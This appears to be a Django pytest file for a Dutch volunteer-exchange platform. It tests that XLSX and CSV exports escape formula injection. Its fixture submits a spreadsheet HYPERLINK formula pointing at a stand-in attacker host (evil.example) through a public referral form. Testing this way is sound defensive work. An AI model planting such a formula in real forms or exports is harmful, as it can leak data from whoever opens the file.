"""Attack 2: a formula typed into the public referral form, and an ad titled "=1+2", must not
become a live formula in any file the software writes for spreadsheets."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tijdvoorelkaar.accounts.models import User
from tijdvoorelkaar.core import clock
from tijdvoorelkaar.demo import seed as demo
from tijdvoorelkaar.imports import services as imports
from tijdvoorelkaar.marketplace.tests.factories import ad
from tijdvoorelkaar.organisations import services as referrals
from tijdvoorelkaar.organisations.models import IncomingReferral
from tijdvoorelkaar.participants.models import Participant

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak","Klik hier")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def injected(client):
    areas = demo.seed_areas()
    demo.seed_users(areas)
    response = client.post(
        "/utrecht-zuid/doorverwijzen/",
        {
            "first_name": "Gerrit",
            "phone": "+31 6 1111 2222",
            "organisation_name": EVIL,
            "referrer_name": "@dokter",
            "resident_consent": "on",
        },
    )
    assert response.status_code == 302
    # The referral waits for the broker; accepted, it becomes a registration.
    referrals.accept_referral(
        referral=IncomingReferral.objects.get(organisation_name=EVIL),
        broker=User.objects.get(email="makelaar@utrecht-zuid.test"),
    )
    referred = Participant.objects.get(referrer_organisation=EVIL)
    ad(referred, "=1+2", description="-5 uur per week")
    return areas["utrecht-zuid"]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def csv_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("email", ["coordinator@utrecht-zuid.test", "financier@utrecht-zuid.test"])
def test_the_report_files_hold_no_formula(client, injected, email):
    client.force_login(User.objects.get(email=email))
    year = clock.today().year
    query = f"van={year}-01-01&tot={year}-12-31"
    cells = xlsx_cells(client.get(f"/utrecht-zuid/verslag/download.xlsx?{query}").content)
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(STARTS)]
    text = client.get(f"/utrecht-zuid/verslag/download.csv?{query}").content.decode("utf-8-sig")
    cells = csv_cells(text, ";")
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    assert "'" + EVIL in cells  # the referrer's row, shown as text


def test_export_registrations_writes_no_formula_and_reads_back_as_written(injected, tmp_path):
    call_command(
        "export_registrations", area="utrecht-zuid", out=str(tmp_path), stdout=io.StringIO()
    )
    written = {}
    for name in ("participants", "ads", "mediations"):
        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
        written[name] = csv_cells(text, ",")
        assert not [cell for cell in written[name] if cell.startswith(STARTS)], name
    assert "'" + EVIL in written["participants"]
    assert "'+31 6 1111 2222" in written["participants"]
    assert "'=1+2" in written["ads"] and "'-5 uur per week" in written["ads"]
    # Reading the export back (as an import does) gives the original text.
    participants = imports.read_path("participants", tmp_path / "participants.csv")
    ads = imports.read_path("ads", tmp_path / "ads.csv")
    assert EVIL in [cell for _line, row in participants.rows for cell in row]
    assert "+31 6 1111 2222" in [cell for _line, row in participants.rows for cell in row]
    assert "=1+2" in [cell for _line, row in ads.rows for cell in row]
